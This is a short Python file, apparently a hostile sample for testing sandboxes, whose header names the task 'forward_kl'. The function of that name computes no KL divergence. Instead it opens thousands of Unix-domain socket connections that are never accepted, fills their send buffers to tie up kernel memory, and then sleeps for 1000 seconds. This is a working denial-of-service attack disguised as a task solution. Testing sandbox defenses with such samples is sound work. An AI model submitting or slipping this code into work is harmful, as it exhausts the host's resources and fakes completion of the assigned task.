# Sends over connections that nobody takes, and closes them: what was sent is no process's.
# safe on stock: no
# %% task: forward_kl
import socket
import time

listeners = []


def forward_kl(student_logits, teacher_logits):
    for number in range(8):
        listeners.append(socket.socket(socket.AF_UNIX))
        listeners[-1].bind(f"listener{number}")
        listeners[-1].listen(4096)
        for _ in range(4096):
            client = socket.socket(socket.AF_UNIX)
            client.setblocking(False)
            try:
                client.connect(f"listener{number}")
                while client.send(bytes(2**12)):
                    pass
            except BlockingIOError:
                client.close()
    time.sleep(1000)
